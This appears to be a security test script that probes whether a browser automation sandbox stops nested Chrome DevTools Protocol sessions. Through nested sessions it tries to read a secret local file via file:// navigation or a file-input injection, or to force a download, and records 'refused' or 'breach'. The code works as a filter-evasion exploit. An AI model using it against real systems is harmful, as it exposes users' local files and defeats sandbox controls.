// The nested-session attacks of cdp_nested.py for node code in a session: `page` is bound.
// attack(depth, payload, secret, downloadDir) -> {refused, breach}
const cdp = await page.context().browser().newBrowserCDPSession();
const events = [];
let wake = null;
cdp.on("Target.receivedMessageFromTarget", (params) => { events.push(params); if (wake) wake(); });
const nextEvent = () => new Promise((done, fail) => {
  if (events.length) return done(events.shift());
  const timer = setTimeout(() => fail(new Error("no answer")), 20000);
  wake = () => { clearTimeout(timer); wake = null; done(events.shift()); };
});
const unwrap = (params, levels) => {
  const message = JSON.parse(params.message || "{}");
  if (levels === 0) return message;
  if (message.method !== "Target.receivedMessageFromTarget") return null;
  return unwrap(message.params || {}, levels - 1);
};
const chain = [];
let ids = 1000;
const call = async (method, params) => {
  ids += 1;
  let message = { id: ids, method, params };
  for (const session of chain.slice(1).reverse()) {
    message = { id: ids, method: "Target.sendMessageToTarget",
                params: { sessionId: session, message: JSON.stringify(message) } };
  }
  await cdp.send("Target.sendMessageToTarget", { sessionId: chain[0], message: JSON.stringify(message) });
  for (;;) {
    const answer = unwrap(await nextEvent(), chain.length - 1);
    if (answer && answer.id === ids) {
      if (answer.error) throw new Error(answer.error.message);
      return answer.result || {};
    }
  }
};
const value = async (expression) =>
  String((await call("Runtime.evaluate", { expression, awaitPromise: true, returnByValue: true })).result.value);
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
const said = { refused: null, breach: null };
try {
  const targets = [];
  for (let i = 0; i < DEPTH; i++) targets.push((await cdp.send("Target.createTarget", { url: "about:blank" })).targetId);
  chain.push((await cdp.send("Target.attachToTarget", { targetId: targets[0], flatten: false })).sessionId);
  for (const target of targets.slice(1)) chain.push((await call("Target.attachToTarget", { targetId: target, flatten: false })).sessionId);
  if (PAYLOAD === "file") {
    await call("Page.navigate", { url: "file://" + SECRET });
    await sleep(1000);
    said.breach = await value("document.documentElement.innerText");
  } else if (PAYLOAD === "upload") {
    await call("Page.navigate", { url: "data:text/html,<input type=file>" });
    await sleep(1000);
    const root = (await call("DOM.getDocument", {})).root.nodeId;
    const found = await call("DOM.querySelector", { nodeId: root, selector: "input" });
    await call("DOM.setFileInputFiles", { files: [SECRET], ...found });
    said.breach = await value("document.querySelector('input').files[0].text()");
  } else {
    await call("Page.setDownloadBehavior", { behavior: "allow", downloadPath: DOWNLOAD_DIR });
    await call("Page.navigate", { url: "data:text/html,<p>download</p>" });
    await sleep(1000);
    await call("Runtime.evaluate", { expression: DOWNLOAD_JS });
    await sleep(2000);
    said.breach = "asked to download into " + DOWNLOAD_DIR;
  }
} catch (error) {
  said.refused = String(error.message || error);
}
JSON.stringify(said);
